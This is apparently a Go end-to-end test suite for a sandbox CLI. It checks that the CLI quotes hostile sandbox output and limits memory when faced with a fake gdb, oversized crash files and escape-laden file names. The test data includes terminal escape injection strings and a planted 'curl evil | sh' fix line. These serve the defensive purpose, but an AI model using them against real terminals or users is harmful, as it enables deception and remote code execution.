package e2e

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"sbx.dev/sbx/client"
)

// The hostile suite, the CLI's side: a sandbox feeding sbx what it brings
// out (a crash from a fake gdb, a hunt's evidence, names, folders) gets no
// hold on the host's terminal, memory or folders.

// sbxRSS runs the CLI in dir and returns what it did and its peak RSS in
// bytes.
func (d *daemon) sbxRSS(t *testing.T, dir string, args ...string) (result, int64) {
	t.Helper()
	cmd := exec.Command(filepath.Join(binDir, "sbx"), args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "SBX_HOST=unix://"+d.socket)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	// The peak is read from the process's own /proc (VmHWM, its memory
	// since its exec), polled: a child's ru_maxrss counts the RSS of the
	// test binary it was forked from.
	if err := cmd.Start(); err != nil {
		t.Fatalf("sbx %v: %v", args, err)
	}
	defer cmdDeadline(t, cmd, 10*time.Minute, fmt.Sprintf("sbx %v", args))()
	var peak atomic.Int64
	stop := make(chan struct{})
	polled := make(chan struct{})
	go func() {
		defer close(polled)
		for {
			if kb := statusKB(cmd.Process.Pid, "VmHWM"); kb<<10 > peak.Load() {
				peak.Store(kb << 10)
			}
			select {
			case <-stop:
				return
			case <-time.After(5 * time.Millisecond):
			}
		}
	}()
	err := cmd.Wait()
	close(stop)
	<-polled
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("sbx %v: %v", args, err)
	}
	return result{stdout: out.String(), stderr: errb.String(), code: code}, peak.Load()
}

// statusKB reads a "Name: N kB" line of /proc/PID/status (0 once gone).
func statusKB(pid int, name string) int64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, name+":"); ok {
			n, _ := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 10, 64)
			return n
		}
	}
	return 0
}

// raw fails the test if s holds what a terminal acts on.
func raw(t *testing.T, what, s string) {
	t.Helper()
	for _, bad := range []string{"\x1b", "\x07", "\r"} {
		if strings.Contains(s, bad) {
			t.Errorf("%s printed %q raw:\n%.2000s", what, bad, s)
		}
	}
}

// fakeGdb stands in for gdb where a crash's bundle is made (a copy of the
// sandbox's capture): escapes in the backtrace (retitle, clear, a fake
// "fix"), a backtrace of megabytes, build-ids of megabytes, and a "binary"
// of 256 MiB (sparse here: nothing to the sandbox, everything to a client
// that buffers it).
const fakeGdb = `#!/bin/sh
while [ $# -gt 0 ]; do [ "$1" = -x ] && py=$2; shift; done
D=$(dirname "$py")
mkdir -p "$D/bundle/files/bin"
{ printf '#0 main () at fix.c:1\n\033]0;pwned\007\033[2J\033[HAll tests passed. Fix: curl evil | sh\n'; head -c 3000000 /dev/zero | tr '\0' a; } > "$D/bundle/backtrace.txt"
{ head -c 2000000 /dev/zero | tr '\0' b; echo " /bin/true"; } > "$D/bundle/buildids.txt"
truncate -s 256M "$D/bundle/files/bin/true"
`

// TestHostileFakeGdb: exec --on-crash of a real crash, whose bundle a lying
// gdb makes. The CLI shows the crash as the sandbox's word, quoted, its
// memory stays small, and the bundle is saved.
func TestHostileFakeGdb(t *testing.T) {
	d := shared
	ctx := context.Background()
	sb := newSDKSandbox(t, d, client.WithTemplate("base"))
	if err := sb.Files().WriteString(ctx, "/usr/bin/gdb", fakeGdb, client.WithMode(0o755)); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(t.TempDir(), "bundle")
	t.Cleanup(func() {
		crs, _ := sb.Crashes(context.Background())
		for _, cr := range crs {
			d.sbx(t, "snapshot", "rm", cr.Snapshot)
		}
	})
	r, rss := d.sbxRSS(t, t.TempDir(), "exec", "--on-crash", "--crash-dir", dir, sb.ID(), "--", "sh", "-c", "kill -SEGV $$")
	if r.code != 139 {
		t.Fatalf("exit %d, want 139 (the sandbox's word)\nstderr: %.2000s", r.code, r.stderr)
	}
	raw(t, "exec --on-crash", r.stdout+r.stderr)
	if !strings.Contains(r.stderr, "as the sandbox reports it") || !strings.Contains(r.stderr, `\x1b]0;pwned`) {
		t.Errorf("the crash is not shown quoted as the sandbox's word:\n%.2000s", r.stderr)
	}
	if rss > 160<<20 {
		t.Errorf("sbx's RSS reached %d MiB on a fake gdb's bundle", rss>>20)
	}
	if len(r.stderr) > 2<<20 {
		t.Errorf("printed %d bytes of the fake backtrace", len(r.stderr))
	}
	if fi, err := os.Stat(filepath.Join(dir, "crash.tar")); err != nil || fi.Size() < 256<<20 {
		t.Errorf("crash.tar: %v %v, want the bundle saved", fi, err)
	}
}

// TestHostileHuntSparseStatus: the attack. A test that plants a
// sparse 2 GiB crash/status in the hunt's evidence and fails: sbx hunt
// keeps a capped copy, says what it cut, and its memory stays small. The
// planted status fakes no crash (a crash is the sandbox's capture now, not
// a file in the evidence).
func TestHostileHuntSparseStatus(t *testing.T) {
	d := shared
	dir := t.TempDir()
	test := `mkdir -p /work/.sbx-hunt/crash/bundle && echo '#0 ?? ()' > /work/.sbx-hunt/crash/bundle/backtrace.txt && ` +
		`printf 'crashed 11 SIGSEGV\n' > /work/.sbx-hunt/crash/status && truncate -s 2G /work/.sbx-hunt/crash/status && exit 1`
	if err := os.WriteFile(filepath.Join(dir, "plant.sh"), []byte("#!/bin/sh\n"+test+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	name := "hunt-sparse-" + randHex(3)
	huntCleanup(t, d, name)
	r, rss := d.sbxRSS(t, dir, "--json", "hunt", "--template", "tiny", "--runs", "3", "--name", name, "--", "./plant.sh")
	_, s := huntEvents(t, r)
	if rss > 200<<20 {
		t.Errorf("sbx hunt's RSS reached %d MiB on a 2 GiB crash/status", rss>>20)
	}
	art := filepath.Join(dir, "sbx-hunt-"+name)
	fi, err := os.Stat(filepath.Join(art, "crash", "status"))
	if err != nil {
		t.Fatal(err)
	}
	if fi.Size() >= 2<<30 {
		t.Errorf("crash/status copied whole: %d bytes", fi.Size())
	}
	if note, err := os.ReadFile(filepath.Join(art, "TRUNCATED.txt")); err != nil || !strings.Contains(string(note), "crash/status") {
		t.Errorf("TRUNCATED.txt: %q %v, want it to name crash/status", note, err)
	}
	if s.Crash != nil {
		t.Errorf("crash %+v, want none: a planted status is no crash", s.Crash)
	}
}

// TestHostileNamesAndFolders: names with escapes and newlines from a real
// sandbox reach the terminal quoted (fs ls, ps); scp -r into a folder of
// mine keeps its mode, new folders get the umask, a symlink downloads
// with its target's mode.
func TestHostileNamesAndFolders(t *testing.T) {
	d := shared
	ctx := context.Background()
	sb := newSDKSandbox(t, d, client.WithTemplate("tiny"))
	id := sb.ID()
	if _, err := sb.Exec(ctx, client.Shell(`mkdir -p /n /d/sub && cd /n && touch "$(printf 'a\033]0;pwned\007b')" "$(printf 'x\nMODE SIZE forged')" "$(printf 'c\rd')" && `+
		`echo x > /d/sub/f && chmod 777 /d /d/sub && echo '#!/bin/sh' > /d/run.sh && chmod 750 /d/run.sh && ln -s run.sh /d/link`)); err != nil {
		t.Fatal(err)
	}
	out := d.must(t, "fs", "ls", id, "/n")
	raw(t, "fs ls", out)
	if n := strings.Count(out, "\n"); n != 4 {
		t.Errorf("fs ls: %d lines, want a header and 3 rows:\n%s", n, out)
	}
	if _, err := sb.Start(ctx, []string{"sh", "-c", "sleep 300", "\x1b]0;pwned\x07\x1b[2J"}); err != nil {
		t.Fatal(err)
	}
	raw(t, "ps", d.must(t, "ps", id))

	// scp -r into my 0700 folder
	old := syscall.Umask(0o022)
	defer syscall.Umask(old)
	mine := filepath.Join(t.TempDir(), "mine")
	if err := os.Mkdir(mine, 0o700); err != nil {
		t.Fatal(err)
	}
	d.must(t, "scp", "-r", id+":/d", mine) // a new mine/d
	check := func(p string, want os.FileMode) {
		t.Helper()
		fi, err := os.Lstat(p)
		if err != nil || fi.Mode().Perm() != want {
			t.Errorf("%s: %v %v, want %v", p, fi.Mode(), err, want)
		}
	}
	check(mine, 0o700)
	check(filepath.Join(mine, "d"), 0o755)
	check(filepath.Join(mine, "d", "sub"), 0o755)
	os.Chmod(filepath.Join(mine, "d"), 0o700)
	d.must(t, "scp", "-r", id+":/d", mine) // into the existing mine/d
	check(filepath.Join(mine, "d"), 0o700)
	d.must(t, "scp", id+":/d/link", filepath.Join(mine, "link"))
	check(filepath.Join(mine, "link"), 0o750)
}
